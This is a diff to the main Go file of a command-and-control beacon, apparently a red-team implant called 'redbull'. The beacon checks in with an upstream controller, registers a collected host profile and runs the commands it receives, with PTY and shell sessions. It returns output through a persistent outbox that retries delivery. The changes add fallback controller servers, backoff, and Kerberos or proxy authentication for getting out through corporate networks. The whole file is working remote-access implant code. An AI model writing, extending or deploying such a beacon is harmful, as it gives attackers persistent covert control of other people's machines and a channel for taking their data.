@@ -1,7 +1,8 @@
 package main
 
 import (
-	"encoding/base64"
+	"context"
+	"errors"
 	"fmt"
 	"os"
 	"os/signal"
@@ -11,37 +12,104 @@ import (
 
 	config "redbull"
 	"redbull/internal/rbcmd"
+	"redbull/internal/rbhost"
 	"redbull/internal/rbhttp"
 	"redbull/internal/rbkrb"
+	"redbull/internal/rboutbox"
+	"redbull/internal/rbpty"
+	"redbull/internal/rbshell"
+	"redbull/internal/rbtransport"
+
+	"github.com/google/uuid"
+	"go.uber.org/zap"
 )
 
 var SLEEP_TIME = 1 * time.Second
-var CWD = ""
+var CWD *rbcmd.WorkingDir
+
+// BUILD_ID identifies the beacon build; set it with -ldflags "-X main.BUILD_ID=..."
+var BUILD_ID = "dev"
+var SESSION_ID = uuid.New().String()
+var HOST rbhost.Info
 
-var httpClient rbhttp.HttpClient
+var transport *rbtransport.Failover
+var outbox *rboutbox.Outbox
 var cmdCtx *rbcmd.Context
+var tasks *executor
 
 func init() {
+	if config.BEACON_DEBUG {
+		zap.ReplaceGlobals(zap.Must(zap.NewDevelopment()))
+	}
+
 	cwd, err := os.Getwd()
 	if err != nil {
 		panic(err)
 	}
 
+	// PROXY_URL has only ever applied to Kerberos proxies
+	primary := rbtransport.Endpoint{URL: config.UPSTREAM, UseKrb: config.USE_KRB}
 	if config.USE_KRB {
-		httpClient = rbkrb.NewKrbCurlHttpClient(config.PROXY_URL)
+		primary.ProxyURL = config.PROXY_URL
+	}
+	endpoints := append([]rbtransport.Endpoint{primary}, config.FALLBACK_UPSTREAMS...)
+	maxBackoff := time.Duration(config.MAX_BACKOFF_SECONDS) * time.Second
+	transport, err = rbtransport.NewFailover(dialEndpoint, config.FAILOVER_AFTER, maxBackoff, endpoints...)
+	if err != nil {
+		panic(err)
+	}
+
+	if config.OUTBOX_PATH != "" {
+		outbox, err = rboutbox.NewPersistent(config.OUTBOX_SIZE, config.OUTBOX_PATH, config.OUTBOX_KEY)
+		if err != nil {
+			panic(err)
+		}
 	} else {
-		httpClient = rbhttp.NewSimpleHttpClient()
+		outbox, err = rboutbox.New(config.OUTBOX_SIZE)
+		if err != nil {
+			panic(err)
+		}
 	}
 
-	CWD = cwd
+	CWD = rbcmd.NewWorkingDir(cwd)
+	HOST = rbhost.Collect(BUILD_ID)
+	tasks = newExecutor()
 	cmdCtx = &rbcmd.Context{
-		CWD:        &CWD,
-		HttpClient: httpClient,
-		SleepTime:  &SLEEP_TIME,
+		Ctx:          context.Background(),
+		SessionID:    SESSION_ID,
+		Host:         &HOST,
+		CWD:          CWD,
+		Transport:    transport,
+		Upstreams:    transport,
+		SleepTime:    &SLEEP_TIME,
+		Ptys:         rbpty.NewManager(transport, SESSION_ID, time.Duration(config.PTY_INTERVAL_MS)*time.Millisecond),
+		ShellSession: rbshell.New(),
 	}
 }
 
-func parseAndExecuteCommand(command string) (string, string, error) {
+// dialEndpoint builds the HTTP transport for an upstream, authenticating to
+// its proxy with Kerberos when the upstream asks for it.
+func dialEndpoint(endpoint rbtransport.Endpoint) (rbtransport.Transport, error) {
+	var httpClient rbhttp.HttpClient
+	if endpoint.UseKrb {
+		krbClient, err := rbkrb.NewKrbHttpClient(endpoint.ProxyURL, config.KRB_KEYTAB, config.KRB_PRINCIPAL)
+		if err != nil {
+			return nil, err
+		}
+		httpClient = krbClient
+	} else if endpoint.ProxyURL != "" {
+		proxyClient, err := rbhttp.NewProxyHttpClient(endpoint.ProxyURL)
+		if err != nil {
+			return nil, err
+		}
+		httpClient = proxyClient
+	} else {
+		httpClient = rbhttp.NewSimpleHttpClient()
+	}
+	return rbtransport.NewHttpTransport(httpClient, endpoint.URL), nil
+}
+
+func parseAndExecuteCommand(ctx *rbcmd.Context, command string) (string, string, error) {
 	commandGroups := strings.Split(command, " ")
 	if len(commandGroups) == 0 {
 		return "", "", fmt.Errorf("no command groups found for command %s", command)
@@ -52,7 +120,7 @@ func parseAndExecuteCommand(command string) (string, string, error) {
 
 	registry := rbcmd.GetRegistry()
 	if cmd, ok := registry[commandName]; ok {
-		return cmd.Execute(cmdCtx, commandArgs)
+		return cmd.Execute(ctx, commandArgs)
 	} else {
 		return "", "", fmt.Errorf("no command '%s' found", command)
 	}
@@ -62,46 +130,72 @@ func main() {
 	termSig := make(chan os.Signal, 1)
 	signal.Notify(termSig, syscall.SIGINT, syscall.SIGTERM)
 
+	registered := false
 	for {
 		select {
 		case <-termSig:
 			return
 		default:
-			time.Sleep(SLEEP_TIME)
+			time.Sleep(SLEEP_TIME + transport.Backoff())
 
-			resp, err := rbhttp.Get[rbhttp.CheckInResponse](httpClient, config.UPSTREAM)
-			if err != nil {
+			if !registered {
+				registered = register() == nil
 				continue
 			}
 
-			decoded, err := base64.StdEncoding.DecodeString(resp.Command)
+			resp, err := transport.CheckIn(SESSION_ID, int(SLEEP_TIME.Seconds()))
 			if err != nil {
-				sendResult(httpClient, "", "", err.Error())
+				// The server forgets sessions when it restarts, so register again
+				if errors.Is(err, rbtransport.ErrUnknownSession) {
+					registered = false
+				}
 				continue
 			}
 
-			command := string(decoded)
-			stdout, stderr, err := parseAndExecuteCommand(command)
-
-			if err != nil {
-				stderr = fmt.Sprintf("%s\nerror: %s", stderr, err.Error())
+			// The server is reachable again, so deliver anything left over
+			flushResults()
+			if resp == nil {
+				continue
 			}
 
-			sendResult(httpClient, command, stdout, stderr)
+			tasks.Cancel(resp.Cancel)
+			tasks.Submit(resp.Tasks)
 		}
 	}
 }
 
-func sendResult(httpClient rbhttp.HttpClient, command, stdout, stderr string) {
+// register sends the host profile to the server as the beacon's first check-in.
+func register() error {
+	return transport.Register(rbhttp.RegisterRequest{
+		SessionID: SESSION_ID,
+		SleepTime: int(SLEEP_TIME.Seconds()),
+		Host:      HOST,
+	})
+}
+
+// queueResult puts a result in the outbox; it is delivered with the rest of
+// the batch, or retried on later check-ins if the server is unreachable.
+func queueResult(taskID, command, stdout, stderr string, failed bool) {
 	result := rbhttp.HttpBody{
+		SessionID:        SESSION_ID,
+		TaskID:           taskID,
 		Command:          command,
 		Stdout:           stdout,
 		Stderr:           stderr,
-		CurrentDirectory: CWD,
+		CurrentDirectory: CWD.Get(),
+		Failed:           failed,
 	}
 
-	_, err := rbhttp.Post[any](httpClient, config.UPSTREAM, result)
-	if err != nil {
-		_ = err
+	if err := outbox.Push(result); err != nil {
+		// The result is still held in memory even if it could not be persisted
+		zap.L().Error("queueResult - persist outbox", zap.Error(err), zap.String("task", taskID))
+	}
+}
+
+func flushResults() {
+	// The server answering with an error means retrying will not help
+	discard := func(err error) bool { return rbtransport.Reachable(err) }
+	if err := outbox.Flush(config.CHECKIN_BATCH_SIZE, transport.SendResults, discard); err != nil {
+		zap.L().Error("flushResults - flush outbox", zap.Error(err), zap.Int("pending", outbox.Len()))
 	}
 }